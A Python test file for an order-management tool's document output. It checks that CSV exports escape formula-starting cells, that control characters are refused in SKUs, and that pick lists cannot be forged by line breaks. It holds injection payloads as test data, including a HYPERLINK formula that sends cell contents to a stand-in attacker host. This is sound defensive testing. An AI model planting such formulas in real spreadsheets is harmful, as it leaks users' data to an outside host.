"""Order data in documents stays data: CSV cells that a spreadsheet would run as formulas
are escaped (orders export, supplier purchase-order CSV), and a control character can
neither enter a SKU nor break a line of a text document."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

from bo_support import line, stock, submit

from backorder.documents.cells import one_line, spreadsheet_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

SUPPLIER = """
[sources.ACME]
name = "ACME Corporation"
email = "orders@acme.example"
"""


def test_spreadsheet_cell_escapes_every_formula_start_but_not_numbers():
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", FORMULA):
        assert spreadsheet_cell(text) == "'" + text
    for text in ("-5", "+3", "-1.50", "A=1", "SKU-1", "", "'quoted"):
        assert spreadsheet_cell(text) == text


def test_one_line_shows_control_characters_as_escapes():
    assert one_line("A\nB") == "A\\nB"
    assert one_line("x\r\x1b[2Jy\u2028z\x85") == "x\\r\\x1b[2Jy\\u2028z\\x85"
    assert one_line("Crème brûlée ✓") == "Crème brûlée ✓"


def test_orders_export_csv_escapes_formula_cells(sim):
    d = sim()
    with d.client() as c:
        stock(c, "-2+3", 5)
        oid = submit(c, "=1+1", line("-2+3", 1), account="@evil", order_number="+SUM(1)")["order_id"]
    out = subprocess.run(
        [sys.executable, "-m", "backorder", "export", "orders", "--format", "csv", "--db", d.db],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    (row,) = list(csv.DictReader(io.StringIO(out.stdout)))
    assert row["order_id"] == oid
    assert (row["external_id"], row["account"], row["order_number"], row["sku"]) == (
        "'=1+1",
        "'@evil",
        "'+SUM(1)",
        "'-2+3",
    )
    assert row["qty"] == "1"  # numbers are left as numbers


def test_purchase_order_csv_escapes_a_formula_sku(sim):
    d = sim(SUPPLIER)
    with d.client() as c:
        c.call("sku.configure", sku=FORMULA, reorder_point=5, order_up_to=10, source="supplier:ACME")
        submit(c, "po-f", line(FORMULA, 3))
        (po,) = c.call("procurement.list")["requests"]
        text = c.call("procurement.document", request_id=po["request_id"], format="csv")["document"]
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["sku"] == "'" + FORMULA
    assert int(row["qty"]) == po["qty"]


def test_a_control_character_in_a_sku_is_refused(sim_client):
    c = sim_client
    for sku in ("A\nB", "A\rB", "A\x00", "\x1b[2J", "A\x7f"):
        assert c.request("sku.configure", sku=sku)["error"]["code"] == "invalid_request"
        reply = c.request("order.submit", channel="web", external_id="cc", lines=[line(sku, 1)])
        assert reply["error"]["code"] == "invalid_request"
    assert c.call("skus.list")["skus"] == []
    assert c.call("orders.list")["orders"] == []


def test_a_line_break_in_a_location_cannot_forge_a_pick_list_row(sim):
    # locations come from the config: the text pick list escapes what a SKU could not carry
    d = sim('[locations]\n"SKU-A" = "A-01\\nZ-99        FORGED                    999  S9  O9"\n')
    with d.client() as c:
        stock(c, "SKU-A", 5)
        submit(c, "pl", line("SKU-A", 2))
        text = c.call("picklist.get")["document"]
    header, row, total = text.splitlines()
    assert "FORGED" not in header and total == "1 item(s), 2 unit(s)"
    assert row.startswith("A-01\\nZ-99") and row.split()[-3] == "2"
